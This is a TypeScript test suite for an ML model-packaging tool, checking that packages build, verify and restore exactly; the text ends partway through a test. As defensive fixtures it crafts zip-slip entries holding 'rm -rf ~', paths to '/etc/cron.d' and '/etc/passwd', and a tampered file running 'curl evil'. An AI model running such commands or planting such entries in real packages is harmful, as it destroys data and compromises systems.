// Deployment packages on real files: build → verify → restore with exact manifest contents; every
// bad input of issue 7 (zip-slip names, links, duplicates, zip bombs, a wrong hash, a missing
// resource glob, a full disk, a cancelled build); the promotion gate; archives that outlive their
// run; and the real end to end: a scikit-learn model trained by Python, registered, packaged,
// verified, restored, loaded again and predicting the same numbers.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as zlib from 'node:zlib';
import * as yazl from 'yazl';
import { buildPackage, PackageError, type OutputFile } from '../../src/core/package/build';
import { sha256File, sha256FileSync } from '../../src/core/package/hashing';
import { MANIFEST_NAME, TOOL, type FileRole, type Manifest, type ManifestFile } from '../../src/core/package/manifest';
import { Packages } from '../../src/core/package/packages';
import { restorePackage, RestoreError } from '../../src/core/package/restore';
import { describeMismatches, verifyPackage } from '../../src/core/package/verify';
import { listEntries, openEntry, openZip, UnsafeZipError } from '../../src/core/package/zipRead';
import { Cancelled } from '../../src/core/registry/objects';
import { GateRefusal, type Registry } from '../../src/core/registry/registry';
import { main, type Io } from '../../src/cli/main';
import { Workspace } from '../../src/core/workspace';
import { writeExperiment, writeRun } from '../../tools/lib/mlflowFiles';
import { tempDir, writeFile } from '../helpers/temp';
import { craftZip, type CraftEntry } from '../helpers/zipCraft';
// eslint-disable-next-line @typescript-eslint/no-require-imports
import crc32 = require('buffer-crc32');

const RUN = 'c0ffee'.padEnd(32, '0');
const T1 = 1_750_000_000; // seconds
const NOW = new Date('2026-03-01T12:00:00.000Z');
const PYTHON = '/usr/bin/python3';
const PY_HELPERS = path.resolve(__dirname, '..', 'helpers', 'python');
const CLI_BIN = path.resolve(__dirname, '..', '..', 'src', 'cli', 'bin.ts');

/** The `mlcycle` executable as a separate process (src/cli/bin.ts under tsx), from folder `cwd`. */
function mlcycle(cwd: string, args: string[], options: { env?: NodeJS.ProcessEnv } = {}): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, ['-r', require.resolve('tsx/cjs'), CLI_BIN, ...args], { cwd, encoding: 'utf8', env: { ...process.env, ...options.env }, timeout: 120_000 });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** An in-process Io that keeps what the CLI prints. */
function capture(cwd: string): Io & { stdout: string[]; stderr: string[]; text: () => string } {
  const stdout: string[] = [];
  const stderr: string[] = [];
  return { stdout, stderr, cwd, out: (t) => stdout.push(t), err: (t) => stderr.push(t), text: () => [...stdout, ...stderr].join('\n') };
}
const sha = (data: string | Buffer): string => createHash('sha256').update(data).digest('hex');

const open: Workspace[] = [];
afterEach(() => {
  for (const ws of open.splice(0)) ws.close();
});

function git(cwd: string, args: string[]): string {
  const env = { ...process.env, GIT_AUTHOR_DATE: `${T1} +0000`, GIT_COMMITTER_DATE: `${T1} +0000` };
  return execFileSync('git', args, { cwd, env, encoding: 'utf8' }).trim();
}

/** The first bytes of a pickle of a scikit-learn estimator (protocol 4), as the sniffer sees them. */
function fakeSklearnPickle(extra = 0): Buffer {
  return Buffer.concat([Buffer.from([0x80, 0x04, 0x95]), Buffer.from('\x8c\x18sklearn.ensemble._forest\x94\x8c\x15RandomForestRegressor\x94'), Buffer.alloc(64 + extra, 7), Buffer.from('.')]);
}

interface Fixture {
  folder: string;
  ws: Workspace;
  registry: Registry;
  packages: Packages;
  runDir: string;
  modelDir: string;
  commit: string;
}

/**
 * A git repository with an MLflow run that logged a scikit-learn model folder (model.pkl and
 * conda.yaml), requirements.txt among the run's artifacts, a dataset input; deployment resources
 * declared in mlcycle.yaml; the model registered as churn v1.
 */
async function fixture(options: { git?: boolean; register?: boolean } = {}): Promise<Fixture> {
  const folder = tempDir();
  let commit = '';
  if (options.git !== false) {
    git(folder, ['init', '-q', '-b', 'main']);
    git(folder, ['config', 'user.email', 'ada@example.com']);
    git(folder, ['config', 'user.name', 'Ada']);
    git(folder, ['remote', 'add', 'origin', 'https://ada:s3cret@example.com/team/churn.git']);
    writeFile(path.join(folder, '.gitignore'), 'mlruns/\n.mlcycle/\n');
    writeFile(path.join(folder, 'train.py'), 'print("train")\n');
    git(folder, ['add', '.']);
    git(folder, ['commit', '-q', '-m', 'first']);
    commit = git(folder, ['rev-parse', 'HEAD']);
  }
  const mlruns = path.join(folder, 'mlruns');
  writeExperiment(mlruns, { id: '0', name: 'Default' });
  const runDir = writeRun(mlruns, {
    experimentId: '0',
    runId: RUN,
    name: 'forest-1',
    startTime: (T1 + 60) * 1000,
    endTime: (T1 + 70) * 1000,
    params: { n_estimators: '100', max_depth: '8' },
    metrics: { r2: [{ timestamp: (T1 + 65) * 1000, value: 0.91, step: 3 }], rmse: [{ timestamp: (T1 + 65) * 1000, value: 4.5, step: 3 }] },
    ...(commit ? { tags: { 'mlflow.source.git.commit': commit } } : {}),
  });
  // A dataset input (MLflow ≥ 2.4 file store, FORMATS.md §1.7).
  const datasetId = 'd'.repeat(32);
  writeFile(
    path.join(mlruns, '0', 'datasets', datasetId, 'meta.yaml'),
    `digest: 1fbe660b\nname: housing\nprofile: '{"num_rows": 400}'\nschema: ''\nsource: '{"uri": "data/housing.csv"}'\nsource_type: local\n`,
  );
  writeFile(
    path.join(runDir, 'inputs', 'e'.repeat(32), 'meta.yaml'),
    `destination_id: ${datasetId}\ndestination_type: RUN\nsource_id: ${datasetId}\nsource_type: DATASET\ntags:\n  mlflow.data.context: train\n`,
  );
  const modelDir = path.join(runDir, 'artifacts', 'model');
  writeFile(path.join(modelDir, 'model.pkl'), fakeSklearnPickle());
  writeFile(path.join(modelDir, 'conda.yaml'), 'name: env\ndependencies:\n- python=3.11.2\n- pip:\n  - scikit-learn==1.2.1\n');
  writeFile(path.join(runDir, 'artifacts', 'requirements.txt'), 'scikit-learn==1.2.1\nnumpy==1.24.2\n');
  writeFile(path.join(folder, 'mlcycle.yaml'), 'models:\n  churn:\n    resources: ["serve/*.py", Dockerfile, "!serve/test_*.py"]\n');
  writeFile(path.join(folder, 'serve', 'app.py'), 'def predict(x):\n    return x\n');
  fs.chmodSync(path.join(folder, 'serve', 'app.py'), 0o755);
  writeFile(path.join(folder, 'serve', 'test_app.py'), 'assert True\n');
  writeFile(path.join(folder, 'Dockerfile'), 'FROM python:3.11-slim\nCOPY . /app\n');
  writeFile(path.join(folder, 'config', 'serving.yaml'), 'port: 8080\n');
  const ws = await Workspace.open(folder, { git: options.git !== false });
  open.push(ws);
  await ws.ingestor.scan();
  const registry = ws.registry({ actor: () => 'Ada <ada@example.com>' });
  if (options.register !== false) await registry.register({ model: 'churn', path: modelDir, description: 'Predicts house prices for the pricing desk.' });
  return { folder, ws, registry, packages: new Packages(registry), runDir, modelDir, commit };
}

function list(dir: string): string[] {
  const out: string[] = [];
  const walk = (d: string, prefix: string): void => {
    for (const e of fs.readdirSync(d, { withFileTypes: true }).sort((a, b) => (a.name < b.name ? -1 : 1))) {
      if (e.isDirectory()) walk(path.join(d, e.name), `${prefix}${e.name}/`);
      else out.push(`${prefix}${e.name}`);
    }
  };
  walk(dir, '');
  return out;
}

/** Every entry of a zip, read back whole (small test packages only). */
async function readZip(file: string): Promise<Map<string, Buffer>> {
  const opened = await openZip(file);
  try {
    const { entries } = await listEntries(opened);
    const out = new Map<string, Buffer>();
    for (const e of entries) {
      const chunks: Buffer[] = [];
      for await (const c of await openEntry(opened, e)) chunks.push(c as Buffer);
      out.set(e.name, Buffer.concat(chunks)); // bytes as they are: a pickle is not UTF-8
    }
    return out;
  } finally {
    opened.close();
  }
}

/** Writes a zip with yazl from name → bytes (for rebuilt, tampered packages). */
async function writeZip(file: string, files: Map<string, Buffer>): Promise<void> {
  const zip = new yazl.ZipFile();
  for (const [name, data] of files) zip.addBuffer(data, name);
  zip.end();
  await new Promise<void>((resolve, reject) => {
    const out = fs.createWriteStream(file);
    (zip.outputStream as NodeJS.ReadableStream).pipe(out).on('close', resolve).on('error', reject);
  });
}

const GENERATED_MLMODEL = (size: number, uuid: string): string =>
  'artifact_path: model\n' +
  'flavors:\n' +
  '  python_function:\n' +
  '    env:\n' +
  '      conda: conda.yaml\n' +
  '    loader_module: mlflow.sklearn\n' +
  '    model_path: model.pkl\n' +
  '    predict_fn: predict\n' +
  '    python_version: 3.11.2\n' +
  '  sklearn:\n' +
  '    code: null\n' +
  '    pickled_model: model.pkl\n' +
  '    serialization_format: pickle\n' +
  '    sklearn_version: 1.2.1\n' +
  'metadata:\n' +
  `  generated_by: mlcycle ${TOOL.version}\n` +
  '  mlcycle_model: churn\n' +
  '  mlcycle_version: 1\n' +
  '  serialization: pickle\n' +
  `model_size_bytes: ${size}\n` +
  `model_uuid: ${uuid}\n` +
  "utc_time_created: '2026-03-01 12:00:00.000000'\n";

describe('deployment packages', function () {
  this.timeout(120_000);

  it('builds model files, MLmodel, environment, resources and card into a zip with an exact manifest; verifies; restores byte for byte', async () => {
    const f = await fixture();
    const v = f.registry.model('churn')!.versions[0]!;
    const built = await f.packages.build('churn', 1, { resources: ['config/*.yaml'], now: NOW });
    assert.equal(built.path, path.join(f.folder, '.mlcycle', 'packages', 'churn', 'v1', 'churn-v1.zip'));
    assert.deepEqual(fs.readdirSync(path.dirname(built.path)), ['churn-v1.zip']); // no temporary file left
    assert.equal(built.sha256, (await sha256File(built.path)).sha256);
    assert.equal(built.size, fs.statSync(built.path).size);

    const zip = await readZip(built.path);
    const manifest = JSON.parse(zip.get(MANIFEST_NAME)!.toString('utf8')) as Manifest;
    assert.deepEqual(manifest, built.manifest);
    const pickle = fakeSklearnPickle();
    const conda = fs.readFileSync(path.join(f.modelDir, 'conda.yaml'));
    const mlmodel = GENERATED_MLMODEL(v.bytes, createHash('sha256').update(`churn\u00001\u0000${v.digest}`).digest('hex').slice(0, 32));
    const card = zip.get('MODEL_CARD.md')!;
    const file = (p: string, data: string | Buffer, role: FileRole): ManifestFile => ({ path: p, sha256: sha(data), size: Buffer.byteLength(data), role });
    const expected: Manifest = {
      format: 'mlcycle-package',
      formatVersion: 1,
      model: 'churn',
      version: 1,
      stage: 'candidate',
      description: 'Predicts house prices for the pricing desk.',
      aliases: [],
      created: '2026-03-01T12:00:00.000Z',
      tool: { name: 'mlcycle', version: TOOL.version },
      registered: { time: new Date(v.registered).toISOString(), by: 'Ada <ada@example.com>', sourcePath: `mlruns/0/${RUN}/artifacts/model`, digest: v.digest, bytes: pickle.length + conda.length },
      run: { source: 'mlruns', id: RUN, name: 'forest-1' },
      git: { commit: f.commit, remote: 'https://example.com/team/churn.git', branch: 'main', dirty: false },
      params: { max_depth: '8', n_estimators: '100' },
      metrics: { r2: { last: 0.91, min: 0.91, max: 0.91, step: 3, count: 1 }, rmse: { last: 4.5, min: 4.5, max: 4.5, step: 3, count: 1 } },
      lineage: { inputs: [{ kind: 'dataset', name: 'housing', digest: '1fbe660b', source: '{"uri": "data/housing.csv"}', sourceType: 'local', context: 'train' }], edges: [] },
      mlflow: { modelDir: 'model', mlmodel: 'generated', flavors: ['python_function', 'sklearn'], signature: null, inputExample: null },
      environment: ['model/conda.yaml', 'model/requirements.txt'],
      resources: [
        { glob: 'serve/*.py', files: ['serve/app.py'] },
        { glob: 'Dockerfile', files: ['Dockerfile'] },
        { glob: 'config/*.yaml', files: ['config/serving.yaml'] },
      ],
      warnings: [],
      files: [
        file('Dockerfile', 'FROM python:3.11-slim\nCOPY . /app\n', 'resource'),
        file('MODEL_CARD.md', card, 'model-card'),
        file('config/serving.yaml', 'port: 8080\n', 'resource'),
        file('model/MLmodel', mlmodel, 'mlmodel'),
        file('model/conda.yaml', conda, 'environment'),
        file('model/model.pkl', pickle, 'model'),
        file('model/requirements.txt', 'scikit-learn==1.2.1\nnumpy==1.24.2\n', 'environment'),
        file('serve/app.py', 'def predict(x):\n    return x\n', 'resource'),
      ],
    };
    assert.deepEqual(manifest, expected);
    assert.equal(zip.get('model/MLmodel')!.toString('utf8'), mlmodel);
    assert.deepEqual([...zip.keys()].sort(), [...expected.files.map((x) => x.path), MANIFEST_NAME].sort());

    // The card says what the version is, from the registry.
    const text = card.toString('utf8');
    for (const needle of ['# Model card: churn v1', 'Predicts house prices for the pricing desk.', '| r2 | 0.91 | 0.91 | 0.91 | 3 |', '| max_depth | 8 |', '| housing | `1fbe660b` |', `commit \`${f.commit}\` on main of https://example.com/team/churn.git`, '## Intended use', 'mlflow.pyfunc.load_model("DIR/model")']) {
      assert.ok(text.includes(needle), `the card lacks ${needle}:\n${text}`);
    }

    // Recorded in the store, verified, restored byte for byte with the resource's exec bit.
    assert.deepEqual(f.packages.list().map((r) => [r.model, r.version, r.path, r.sha256, r.verifiedAt]), [['churn', 1, '.mlcycle/packages/churn/v1/churn-v1.zip', built.sha256, null]]);
    const verified = await f.packages.verify(built.path);
    assert.equal(verified.ok, true, describeMismatches(verified).join('\n'));
    assert.deepEqual([verified.files, verified.missing, verified.extra, verified.altered, verified.problems], [8, [], [], [], []]);
    assert.ok(f.packages.list()[0]!.verifiedAt! > 0);
    const dir = path.join(tempDir(), 'restored');
    const restored = await restorePackage(built.path, dir);
    assert.equal(restored.files, 9);
    assert.deepEqual(list(dir), [...expected.files.map((x) => x.path), MANIFEST_NAME].sort());
    for (const x of expected.files) assert.equal(sha(fs.readFileSync(path.join(dir, x.path))), x.sha256, x.path);
    assert.equal(fs.statSync(path.join(dir, 'serve', 'app.py')).mode & 0o777, 0o755);
    assert.equal(fs.statSync(path.join(dir, 'Dockerfile')).mode & 0o777, 0o644);
    // A standard unzip reads it too (CRC-32s computed with zlib.crc32 in place of buffer-crc32).
    const unzip = spawnSync(PYTHON, ['-c', 'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); print(z.testzip())', built.path], { encoding: 'utf8' });
    if (unzip.status === 0) assert.equal(unzip.stdout.trim(), 'None');
  });

  it("copies an MLflow model's MLmodel with its signature and input example, and takes an edited model card", async () => {
    const f = await fixture({ git: false, register: false });
    const dir = path.join(f.runDir, 'artifacts', 'mlflow-model');
    writeFile(
      path.join(dir, 'MLmodel'),
      'artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.skops\n  sklearn:\n    pickled_model: model.skops\n    serialization_format: skops\n' +
        "saved_input_example_info: {artifact_path: input_example.json, type: dataframe, pandas_orient: split}\n" +
        'signature:\n  inputs: \'[{"type": "double", "name": "area", "required": true}]\'\n  outputs: \'[{"type": "tensor", "tensor-spec": {"dtype": "float64", "shape": [-1]}}]\'\n  params: null\n',
    );
    writeFile(path.join(dir, 'model.skops'), 'skops bytes');
    writeFile(path.join(dir, 'input_example.json'), '{"columns": ["area"], "data": [[72.5]]}');
    await f.registry.register({ model: 'churn', path: dir });
    const built = await f.packages.build('churn', 1, { modelCard: '# churn v1\n\nEdited by hand.\n', now: NOW });
    const m = built.manifest;
    assert.deepEqual(m.mlflow, {
      modelDir: 'model',
      mlmodel: 'copied',
      flavors: ['python_function', 'sklearn'],
      signature: { inputs: [{ type: 'double', name: 'area', required: true }], outputs: [{ type: 'tensor', 'tensor-spec': { dtype: 'float64', shape: [-1] } }], params: null },
      inputExample: { path: 'model/input_example.json', type: 'dataframe', value: { columns: ['area'], data: [[72.5]] } },
    });
    assert.deepEqual(
      m.files.map((x) => [x.path, x.role]),
      [
        ['Dockerfile', 'resource'],
        ['MODEL_CARD.md', 'model-card'],
        ['model/MLmodel', 'mlmodel'],
        ['model/input_example.json', 'model'],
        ['model/model.skops', 'model'],
        // The run's requirements.txt (artifact root), not the conda.yaml of the other model folder
        // (artifacts/model/) the same run logged: that one describes another model.
        ['model/requirements.txt', 'environment'],
        ['serve/app.py', 'resource'],
      ],
    );
    const zip = await readZip(built.path);
    assert.equal(zip.get('model/MLmodel')!.toString('utf8'), fs.readFileSync(path.join(dir, 'MLmodel'), 'utf8')); // copied as is
    assert.equal(zip.get('MODEL_CARD.md')!.toString('utf8'), '# churn v1\n\nEdited by hand.\n');
  });

  it('puts the DVC lineage edges leading to the run and to the model file in the manifest', async () => {
    const folder = tempDir();
    const proj = path.join(folder, 'proj');
    writeFile(path.join(proj, 'dvc.yaml'), 'stages:\n  train:\n    cmd: python train.py\n    deps:\n    - train.py\n    - data.csv\n    outs:\n    - dvclive\n    - model.pkl\n');
    writeFile(
      path.join(proj, 'dvc.lock'),
      "schema: '2.0'\nstages:\n  train:\n    cmd: python train.py\n    deps:\n    - path: data.csv\n      hash: md5\n      md5: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n      size: 100\n" +
        '    - path: train.py\n      hash: md5\n      md5: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\n      size: 10\n    outs:\n    - path: model.pkl\n      hash: md5\n      md5: cccccccccccccccccccccccccccccccc\n      size: 80\n',
    );
    writeFile(path.join(proj, 'dvclive', 'metrics.json'), '{"r2": 0.8, "step": 1}\n');
    // plots/metrics/ is what makes a folder a DVCLive run (a bare metrics.json is not one).
    writeFile(path.join(proj, 'dvclive', 'plots', 'metrics', 'r2.tsv'), 'step\tr2\n0\t0.7\n1\t0.8\n');
    writeFile(path.join(proj, 'model.pkl'), fakeSklearnPickle());
    const ws = await Workspace.open(folder, { git: false });
    open.push(ws);
    await ws.ingestor.scan();
    const registry = ws.registry({ actor: () => 'Ada' });
    await registry.register({ model: 'prices', path: path.join(proj, 'model.pkl'), run: { source: 'proj', id: 'dvclive' } });
    const built = await new Packages(registry).build('prices', 1, { now: NOW });
    const edges = built.manifest.lineage.edges.map((e) => `${e.from.kind}:${e.from.key}${e.from.hash ? `@${e.from.hash}` : ''} -${e.relation}-> ${e.to.kind}:${e.to.key}`);
    assert.deepEqual(edges.sort(), [
      'file:proj/data.csv@md5:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa -dep-> stage:proj:dvc.yaml:train',
      'file:proj/train.py@md5:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb -dep-> stage:proj:dvc.yaml:train',
      'stage:proj:dvc.yaml:train -out-> file:proj/model.pkl',
      'stage:proj:dvc.yaml:train -produced-> run:proj#dvclive',
    ]);
    const card = (await readZip(built.path)).get('MODEL_CARD.md')!.toString('utf8');
    assert.match(card, /file `proj\/data\.csv` \(md5:a{32}\) → dep → stage `proj:dvc\.yaml:train`/);
  });

  it('a resource glob that matches nothing fails the build and names the glob (a warning when allowed); globs leaving the workspace are refused', async () => {
    const f = await fixture({ git: false });
    writeFile(path.join(f.folder, 'mlcycle.yaml'), 'models:\n  churn:\n    resources: ["serve/*.py", "inference/*.py"]\n');
    await assert.rejects(f.packages.build('churn', 1), (err: Error) => {
      assert.ok(err instanceof PackageError);
      assert.equal(err.message, 'resource glob "inference/*.py" (declared in mlcycle.yaml for churn) matches no file: fix the glob, add the file, or build with --allow-missing-resources');
      return true;
    });
    assert.equal(fs.existsSync(f.packages.defaultPath('churn', 1)), false);
    const built = await f.packages.build('churn', 1, { allowMissingResources: true, resources: ['docs/*.md'] });
    assert.deepEqual(built.manifest.warnings, ['resource glob "inference/*.py" (declared in mlcycle.yaml for churn) matches no file', 'resource glob "docs/*.md" matches no file']);
    assert.deepEqual(built.manifest.resources, [
      { glob: 'serve/*.py', files: ['serve/app.py', 'serve/test_app.py'] },
      { glob: 'inference/*.py', files: [] },
      { glob: 'docs/*.md', files: [] },
    ]);
    for (const bad of ['../secrets/*.txt', '/etc/passwd', 'serve\\app.py']) {
      await assert.rejects(f.packages.build('churn', 1, { resources: [bad] }), /resource glob .* (leaves the workspace folder|is absolute|uses backslashes)/);
    }
    const outside = tempDir('mlcycle-outside-');
    writeFile(path.join(outside, 'token.txt'), 'secret');
    fs.symlinkSync(path.join(outside, 'token.txt'), path.join(f.folder, 'serve', 'token.py'));
    await assert.rejects(f.packages.build('churn', 1), /resource serve\/token\.py resolves to .*outside the workspace folder/);
    writeFile(path.join(f.folder, 'model', 'serve.py'), 'x');
    fs.rmSync(path.join(f.folder, 'serve', 'token.py'));
    await assert.rejects(f.packages.build('churn', 1, { resources: ['model/*.py'] }), /resource model\/serve\.py .* would take a place the package reserves/);
    writeFile(path.join(f.folder, 'mlcycle.yaml'), 'models:\n  churn:\n    resources: [oops\n');
    await assert.rejects(f.packages.build('churn', 1), /mlcycle\.yaml.*invalid YAML/);
  });

  it('a disk that fills up during a build leaves nothing under the final name and no temporary file', async () => {
    const f = await fixture({ git: false, register: false });
    writeFile(path.join(f.modelDir, 'weights.bin'), randomBytes(3 * 1024 * 1024));
    await f.registry.register({ model: 'churn', path: f.modelDir });
    const target = f.packages.defaultPath('churn', 1);
    let written = 0;
    // The first MiB reaches the temporary file; then every write fails as a full disk does:
    // with /dev/full's real ENOSPC where the machine has it.
    const full = fs.existsSync('/dev/full') ? fs.openSync('/dev/full', 'w') : undefined;
    const openOutput = async (tmp: string): Promise<OutputFile> => {
      const handle = await fs.promises.open(tmp, 'wx');
      assert.equal(path.dirname(tmp), path.dirname(target)); // next to the final file, same file system
      return {
        write: async (chunk) => {
          if (written + chunk.length > 1024 * 1024) {
            if (full !== undefined) fs.writeSync(full, chunk); // throws ENOSPC
            throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
          }
          written += chunk.length;
          await handle.write(chunk);
        },
        sync: () => handle.sync(),
        close: () => handle.close(),
      };
    };
    try {
      await assert.rejects(f.packages.build('churn', 1, { openOutput, compressBelow: 0 }), (err: NodeJS.ErrnoException) => err.code === 'ENOSPC');
    } finally {
      if (full !== undefined) fs.closeSync(full);
    }
    assert.ok(written > 0);
    assert.equal(fs.existsSync(path.dirname(target)), false, 'no partial file, not even the empty folder');
    assert.deepEqual(f.packages.list(), []);
    // The disk has room again: the next build succeeds.
    const built = await f.packages.build('churn', 1);
    assert.equal((await verifyPackage(built.path)).ok, true);
  });

  it('a cancelled build stops, leaves nothing behind and records nothing', async () => {
    const f = await fixture({ git: false, register: false });
    writeFile(path.join(f.modelDir, 'weights.bin'), randomBytes(24 * 1024 * 1024));
    await f.registry.register({ model: 'churn', path: f.modelDir });
    const controller = new AbortController();
    let calls = 0;
    await assert.rejects(
      f.packages.build('churn', 1, {
        signal: controller.signal,
        onProgress: () => {
          if (++calls === 1) controller.abort();
        },
      }),
      Cancelled,
    );
    assert.equal(fs.existsSync(path.dirname(f.packages.defaultPath('churn', 1))), false, 'not even the empty folder of the version');
    assert.deepEqual(f.packages.list(), []);
    const aborted = new AbortController();
    aborted.abort();
    await assert.rejects(f.packages.build('churn', 1, { signal: aborted.signal }), Cancelled);
  });

  describe('restoring refuses unsafe zips, leaving the target untouched', () => {
    const manifestFor = (entries: CraftEntry[]): CraftEntry => {
      const files = entries.map((e) => {
        const data = Buffer.from(e.data ?? '');
        return { path: e.name, sha256: sha(data), size: data.length, role: 'model' };
      });
      return { name: MANIFEST_NAME, data: JSON.stringify({ format: 'mlcycle-package', formatVersion: 1, model: 'm', version: 1, files }) };
    };
    const cases: [string, CraftEntry[], RegExp][] = [
      ['a ../ entry', [{ name: 'model/../../evil.sh', data: 'rm -rf ~' }], /entry "model\/\.\.\/\.\.\/evil\.sh" escapes the folder/],
      ['an absolute path', [{ name: '/etc/cron.d/evil', data: 'x' }], /entry "\/etc\/cron\.d\/evil" is an absolute path/],
      ['a drive letter', [{ name: 'C:/Windows/evil.dll', data: 'x' }], /entry "C:\/Windows\/evil\.dll" starts with a drive letter/],
      ['backslashes', [{ name: '..\\..\\evil.bat', data: 'x' }], /entry "\.\.\\\\\.\.\\\\evil\.bat" uses backslashes/],
      ['a symbolic link', [{ name: 'model/link', data: '/etc/passwd', mode: 0o120777 }], /entry "model\/link" is a symbolic link/],
      ['a device file', [{ name: 'model/dev', data: '', mode: 0o020644 }], /entry "model\/dev" is a special file/],
      ['duplicate names', [{ name: 'model/a.bin', data: 'one' }, { name: 'model/a.bin', data: 'two' }], /entry "model\/a\.bin" appears twice/],
      ['names differing in case', [{ name: 'model/A.bin', data: 'one' }, { name: 'model/a.bin', data: 'two' }], /entries "model\/A\.bin" and "model\/a\.bin" name the same file/],
      ['a file where a folder is needed', [{ name: 'model', data: 'one' }, { name: 'model/a.bin', data: 'two' }], /entry "model\/a\.bin" needs a folder where the zip has a file/],
    ];
    for (const [what, entries, message] of cases) {
      it(what, async () => {
        const parent = tempDir();
        const zip = path.join(parent, 'bad.zip');
        fs.writeFileSync(zip, craftZip([...entries, manifestFor(entries)]));
        const dir = path.join(parent, 'out');
        await assert.rejects(restorePackage(zip, dir), (err: Error) => {
          assert.ok(err instanceof UnsafeZipError, err.message);
          assert.match(err.message, message);
          return true;
        });
        assert.deepEqual(fs.readdirSync(parent), ['bad.zip']); // no DIR, no temporary folder
        const verified = await verifyPackage(zip);
        assert.equal(verified.ok, false);
        assert.ok(verified.problems.some((p) => message.test(p)), verified.problems.join('\n'));
      });
    }

    it('a 10 GB declared size (zip bomb) is refused before anything is read or written', async () => {
      const parent = tempDir();
      const zip = path.join(parent, 'bomb.zip');
      const entries: CraftEntry[] = [{ name: 'model/weights.bin', data: 'x', declaredSize: 10 * 2 ** 30 }];
      fs.writeFileSync(zip, craftZip([...entries, manifestFor([{ name: 'model/weights.bin', data: 'x' }])]));
      assert.ok(fs.statSync(zip).size < 1024);
      await assert.rejects(restorePackage(zip, path.join(parent, 'out')), /entry "model\/weights\.bin" declares 10\.0 GiB uncompressed from 3 bytes \(ratio \d+:1, limit 1000:1\): refusing a possible zip bomb/);
      // Also beyond the total limit, whatever the ratio.
      await assert.rejects(restorePackage(zip, path.join(parent, 'out'), { limits: { maxEntryBytes: 2 ** 40, maxTotalBytes: 2 ** 30, maxRatio: 1e12, ratioFloor: 0, maxEntries: 10, maxManifestBytes: 1e6 } }), /add up to 10\.0 GiB uncompressed \(limit 1\.0 GiB\)/);
      assert.deepEqual(fs.readdirSync(parent), ['bomb.zip']);
    });

    it('an entry holding more than it declares is cut at its declared size', async () => {
      const parent = tempDir();
      const zip = path.join(parent, 'liar.zip');
      const zeros = Buffer.alloc(4 * 1024 * 1024); // deflates to ~4 KB: ratio 250 for the declared 1 MiB
      const entries: CraftEntry[] = [{ name: 'model/weights.bin', data: zeros, declaredSize: 1024 * 1024 }];
      const manifest: CraftEntry = {
        name: MANIFEST_NAME,
        data: JSON.stringify({ format: 'mlcycle-package', formatVersion: 1, model: 'm', version: 1, files: [{ path: 'model/weights.bin', sha256: sha(zeros.subarray(0, 1024 * 1024)), size: 1024 * 1024, role: 'model' }] }),
      };
      fs.writeFileSync(zip, craftZip([...entries, manifest]));
      await assert.rejects(restorePackage(zip, path.join(parent, 'out')), /entry model\/weights\.bin holds more than the 1048576 bytes it declares: stopped reading/);
      assert.deepEqual(fs.readdirSync(parent), ['liar.zip']);
    });
  });

  it('verify names altered, missing and extra files, and a manifest with a wrong hash; restore refuses them all', async () => {
    const f = await fixture({ git: false });
    const built = await f.packages.build('churn', 1);
    const original = await readZip(built.path);
    const variant = async (name: string, change: (files: Map<string, Buffer>) => void): Promise<string> => {
      const files = new Map(original);
      change(files);
      const file = path.join(tempDir(), `${name}.zip`);
      await writeZip(file, files);
      return file;
    };
    const manifest = JSON.parse(original.get(MANIFEST_NAME)!.toString('utf8')) as Manifest;
    const wrongHash = await variant('wrong-hash', (files) => {
      const m = structuredClone(manifest);
      m.files.find((x) => x.path === 'model/model.pkl')!.sha256 = '0'.repeat(64);
      files.set(MANIFEST_NAME, Buffer.from(JSON.stringify(m)));
    });
    const altered = await variant('altered', (files) => files.set('serve/app.py', Buffer.from('import os; os.system("curl evil")\n')));
    const missing = await variant('missing', (files) => files.delete('Dockerfile'));
    const extra = await variant('extra', (files) => files.set('serve/backdoor.py', Buffer.from('x')));

    const r1 = await verifyPackage(wrongHash);
    assert.equal(r1.ok, false);
    assert.deepEqual(describeMismatches(r1), [`✗ altered  model/model.pkl: sha256 ${sha(fakeSklearnPickle())}, the manifest says ${'0'.repeat(64)}`]);
    const r2 = await verifyPackage(altered);
    assert.deepEqual([r2.ok, r2.altered.map((a) => [a.path, a.actual.size, a.expected.size])], [false, [['serve/app.py', 34, 29]]]);
    assert.deepEqual(describeMismatches(r2), [`✗ altered  serve/app.py: 34 bytes, sha256 ${sha('import os; os.system("curl evil")\n')}; the manifest says 29 bytes, sha256 ${sha('def predict(x):\n    return x\n')}`]);
    const r3 = await verifyPackage(missing);
    assert.deepEqual([r3.ok, r3.missing, describeMismatches(r3)], [false, ['Dockerfile'], ['✗ missing  Dockerfile (listed in the manifest, not in the zip)']]);
    const r4 = await verifyPackage(extra);
    assert.deepEqual([r4.ok, r4.extra, describeMismatches(r4)], [false, ['serve/backdoor.py'], ['✗ extra    serve/backdoor.py (in the zip, not in the manifest)']]);

    for (const [file, message] of [
      [wrongHash, /altered {2}model\/model\.pkl: sha256 [0-9a-f]{64}, the manifest says 0{64}/],
      [altered, /altered {2}serve\/app\.py: the zip declares 34 bytes, the manifest 29/],
      [missing, /missing {2}Dockerfile/],
      [extra, /extra {4}serve\/backdoor\.py/],
    ] as const) {
      const parent = tempDir();
      await assert.rejects(restorePackage(file, path.join(parent, 'out')), message);
      assert.deepEqual(fs.readdirSync(parent), [], `${file} left something behind`);
    }
    const notZip = path.join(tempDir(), 'not.zip');
    fs.writeFileSync(notZip, 'PK but not really');
    await assert.rejects(verifyPackage(notZip), /is not a readable zip/);
    const noManifest = path.join(tempDir(), 'plain.zip');
    fs.writeFileSync(noManifest, craftZip([{ name: 'a.txt', data: 'a' }]));
    assert.deepEqual((await verifyPackage(noManifest)).problems, ['manifest.json is missing: this is not an MLCycle package']);
    await assert.rejects(restorePackage(noManifest, path.join(tempDir(), 'out')), RestoreError);
  });

  it('restores into a new or empty folder only, and refuses a package of another version', async () => {
    const f = await fixture({ git: false });
    const built = await f.packages.build('churn', 1);
    const parent = tempDir();
